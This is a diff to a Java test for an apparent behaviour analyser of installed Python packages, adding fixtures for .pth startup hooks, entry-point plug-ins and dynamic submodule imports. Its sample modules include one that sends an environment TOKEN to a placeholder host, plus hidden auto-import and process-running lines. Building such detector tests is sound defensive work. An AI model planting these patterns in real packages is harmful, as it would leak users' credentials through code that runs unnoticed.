@@ -6,6 +6,7 @@ import static org.assertj.core.api.Assertions.assertThatIllegalStateException;
 import dev.auditpath.behaviour.Analysis;
 import dev.auditpath.behaviour.ModuleSource;
 import dev.auditpath.behaviour.Modules;
+import dev.auditpath.behaviour.PlugIn;
 import dev.auditpath.behaviour.Program;
 import dev.auditpath.behaviour.Subject;
 import dev.auditpath.host.Host;
@@ -60,9 +61,14 @@ class AnalysisWorkerTest {
         text(
             "/opt/env/lib/acme/cli.py",
             """
-            import os, subprocess, sys
+            import importlib, os, subprocess, sys
             from . import größe
+            for step in os.listdir(os.path.dirname(__file__)):
+                importlib.import_module('acme.steps.' + step)
             from tool.cli import main as tool
+            from importlib.metadata import entry_points
+            for point in entry_points(group='acme.größe'):
+                point.load()('x')
             def main():
                 größe.send('\\x00 \\N{SNOWMAN} 名前')
                 subprocess.run(['id'])
@@ -79,7 +85,11 @@ class AnalysisWorkerTest {
             def send(x):
              urllib.request.urlopen('https://a.invalid/' + os.environ['TOKEN'])
             """));
-    Modules modules = modules(files);
+    files.put("acme.steps", new ModuleSource.Namespace());
+    files.put("acme.steps.größe", text("/opt/env/lib/acme/steps/a.py", "import os\nos.fork()\n"));
+    ModuleSource.Text early =
+        new ModuleSource.Text(Path.of("/opt/env/lib/größe.pth"), "\nimport acme.größe", false, "a");
+    Modules modules = modules(files, List.of(early));
     Subject subject = new Subject(List.of("kubectl"), "acme");
     Program entry = new Program.Entry(new EntryPoint("acme.cli", "main"), FILE);
 
@@ -214,6 +224,21 @@ class AnalysisWorkerTest {
           public Map<String, Set<String>> commands(String module) {
             return Map.of();
           }
+
+          @Override
+          public List<ModuleSource.Text> startup() {
+            return List.of();
+          }
+
+          @Override
+          public List<PlugIn> plugIns(String group) {
+            return List.of();
+          }
+
+          @Override
+          public List<String> children(String parent) {
+            return List.of();
+          }
         };
     Program script = new Program.Script(FILE, "import acme\nimport os\nos.system('id')\n");
     Subject subject = subject("kubectl");
@@ -240,6 +265,21 @@ class AnalysisWorkerTest {
 
           @Override
           public Map<String, Set<String>> commands(String module) {
+            throw new IllegalStateException("broken");
+          }
+
+          @Override
+          public List<ModuleSource.Text> startup() {
+            throw new IllegalStateException("broken");
+          }
+
+          @Override
+          public List<PlugIn> plugIns(String group) {
+            throw new IllegalStateException("broken");
+          }
+
+          @Override
+          public List<String> children(String parent) {
             throw new IllegalStateException("broken");
           }
         };
@@ -339,6 +379,10 @@ class AnalysisWorkerTest {
   }
 
   private static Modules modules(Map<String, ModuleSource> files) {
+    return modules(files, List.of());
+  }
+
+  private static Modules modules(Map<String, ModuleSource> files, List<ModuleSource.Text> startup) {
     return new Modules() {
       @Override
       public ModuleSource find(String module) {
@@ -353,6 +397,23 @@ class AnalysisWorkerTest {
       @Override
       public Map<String, Set<String>> commands(String module) {
         return module.startsWith("tool") ? Map.of("tool.cli", Set.of("kubectl", "k")) : Map.of();
+      }
+
+      @Override
+      public List<ModuleSource.Text> startup() {
+        return startup;
+      }
+
+      @Override
+      public List<PlugIn> plugIns(String group) {
+        return group.equals("acme.größe")
+            ? List.of(new PlugIn("a", new EntryPoint("acme.größe", "send")))
+            : List.of();
+      }
+
+      @Override
+      public List<String> children(String parent) {
+        return parent.equals("acme.steps") ? List.of("größe", "one") : List.of();
       }
     };
   }
